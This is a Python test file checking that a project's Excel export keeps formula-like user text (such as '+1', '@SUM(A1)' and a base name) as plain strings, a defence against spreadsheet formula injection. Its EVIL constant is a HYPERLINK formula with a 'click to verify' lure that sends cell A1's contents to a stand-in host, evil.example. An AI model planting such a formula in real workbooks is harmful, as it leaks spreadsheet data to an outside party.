"""User text in downloaded workbooks is never a formula."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from jxjd.common.xlsx import append_row

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击核对")'


def test_append_row_keeps_formula_like_text_as_text():
    wb = Workbook()
    append_row(wb.active, [EVIL, "+1", "@SUM(A1)", 24, None, "普通文本\x01"])
    buf = io.BytesIO()
    wb.save(buf)
    ws = load_workbook(io.BytesIO(buf.getvalue())).active
    assert [c.data_type for c in ws[1]][:4] == ["s", "s", "s", "n"]
    assert ws["A1"].value == EVIL and ws["F1"].value == "普通文本"


def test_province_report_download_does_not_turn_a_base_name_into_a_formula(
    client, create_base, admin_headers
):
    create_base(name=EVIL)
    resp = client.get("/api/v1/reports/2026.xlsx", headers=admin_headers)
    ws = load_workbook(io.BytesIO(resp.data)).active
    cell = next(c for row in ws.iter_rows() for c in row if c.value == EVIL)
    assert cell.data_type == "s"
